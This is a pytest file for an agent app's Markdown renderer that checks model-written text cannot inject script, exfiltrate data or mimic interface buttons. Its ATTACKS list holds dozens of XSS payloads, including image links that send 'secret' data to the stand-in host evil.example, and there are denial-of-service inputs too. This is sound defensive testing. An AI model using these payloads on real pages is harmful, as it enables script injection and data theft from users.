"""Markdown: what people expect is drawn, and nothing that a model or record writes runs, loads or imitates."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest

from agent.drawing.prose import ATTRIBUTES, MAX_CHARACTERS, TAGS, render_markdown

PICTURE = "/api/v1/renders/01234567-89ab-cdef-0123-456789abcdef/image"
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/path)",
    "[x](https://user:secret@evil.example/)",
    "![x](https://evil.example/leak.png?data=secret)",
    "![x][r]\n\n[r]: https://evil.example/leak.png",
    "![x](//evil.example/leak.png)",
    "![x](/api/v1/chats/1?delete=1)",
    "<iframe src=https://evil.example></iframe>",
    "<style>*{display:none}</style>",
    '<div style="position:fixed;inset:0">over everything</div>',
    "<button data-decide=confirm>Confirm</button>",
    "<section class=card data-change-set=1>Confirmed</section>",
    "<input name=password>",
    "<form action=https://evil.example><button>Go</button></form>",
    "<video src=https://evil.example/v.mp4></video>",
    "<svg onload=alert(1)><use href='data:x'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<link rel=stylesheet href=https://evil.example>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<details open ontoggle=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '```"><script>alert(1)</script>\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '[a](https://ok.example "title\\" onmouseover=alert(1) x=\\"")',
    "${alert(1)} {{constructor.constructor('alert(1)')()}}",
    "<!-- --><!--[if IE]><script>alert(1)</script><![endif]-->",
    "$$\\href{javascript:alert(1)}{x}$$",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p title='</p><script>alert(1)</script>'>",
    "\u202eevil\u202c <scr\x00ipt>alert(1)</script>",
]


class Elements(HTMLParser):
    """Every element and attribute of a piece of HTML, as a browser reads them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_leaves_only_harmless_elements(text: str) -> None:
    for tag, attributes in Elements(render_markdown(text)).seen:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set())
        assert (attributes.get("src") or PICTURE) == PICTURE
        assert (attributes.get("href") or "/").startswith(("/", "https://ok.example"))
        assert not (attributes.get("href") or "/").startswith("//")
        assert attributes.get("class") in {None, "scroll", "left", "right", "center"}


def test_a_link_inside_stays_in_its_tab_and_one_outside_opens_another() -> None:
    assert (
        render_markdown("[order](/app/orders?order=1)") == '<p><a href="/app/orders?order=1">order</a></p>\n'
    )
    assert 'target="_blank" rel="noopener noreferrer"' in render_markdown("[x](https://example.com/a)")


def test_a_link_that_leaves_names_its_host_unless_its_words_do() -> None:
    assert "<small> (example.com)</small>" in render_markdown("[your bank](https://example.com/a)")
    assert "<small>" not in render_markdown("<https://example.com/a>")


def test_our_own_picture_is_shown_and_any_other_is_only_described() -> None:
    assert f'<img src="{PICTURE}" alt="6204" loading="lazy">' in render_markdown(f"![6204]({PICTURE})")
    assert render_markdown("![a cat](https://example.com/cat.png)") == "<p>a cat</p>\n"


def test_tables_code_and_headings_are_drawn() -> None:
    drawn = render_markdown(
        "# One\n\n| a | n |\n|---|--:|\n| x | 1 |\n\n```py\nif a < b: pass\n```\n\nline\nbreak"
    )
    assert "<h3>One</h3>" in drawn
    assert '<div class="scroll"><table>' in drawn
    assert '<td class="right">1</td>' in drawn
    assert "<pre><code>if a &lt; b: pass\n</code></pre>" in drawn
    assert "line<br>\nbreak" in drawn


def test_a_too_long_text_is_cut_and_says_so() -> None:
    assert f"cut after {MAX_CHARACTERS:,} characters" in render_markdown("word " * MAX_CHARACTERS)


@pytest.mark.parametrize(
    "text",
    ["[" * 20_000, "> " * 20_000, "*a " * 20_000, "- " * 5_000, "|" * 40_000, "`" * 20_000, "![" * 10_000],
)
def test_a_hostile_text_is_drawn_in_bounded_time(text: str) -> None:
    began = time.process_time()
    render_markdown(text)
    assert time.process_time() - began < 5


def test_outside_the_app_its_pages_and_pictures_are_only_words() -> None:
    picture = f"![KL-6204](/api/v1/renders/{'0' * 36}/image)"
    text = f"[SA-1](/app/orders) [it](https://a.example/b) {picture}"
    assert "/app/orders" in render_markdown(text)
    assert "<img" in render_markdown(text)
    drawn = render_markdown(text, in_app=False)
    assert "/app/orders" not in drawn
    assert "<img" not in drawn
    assert "SA-1" in drawn
    assert "KL-6204" in drawn
    assert 'href="https://a.example/b"' in drawn
